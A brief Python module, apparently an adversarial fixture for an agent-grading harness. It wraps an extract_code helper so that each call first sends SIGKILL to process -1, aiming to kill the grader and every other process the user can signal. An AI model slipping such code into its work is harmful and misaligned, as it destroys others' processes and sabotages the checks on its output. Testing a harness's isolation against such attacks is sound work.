"""Attack: kill(-1) at every call, to take down every process the grader and its classmates run."""

import os
import signal

from solutions.agent import extract_code as _extract_code
from solutions.agent import holdout_check, solve, write_solution, write_tests  # noqa: F401


def extract_code(reply):
    try:
        os.kill(-1, signal.SIGKILL)  # every process this user may signal: with a user of its own, only its own
    except OSError:
        pass
    return _extract_code(reply)
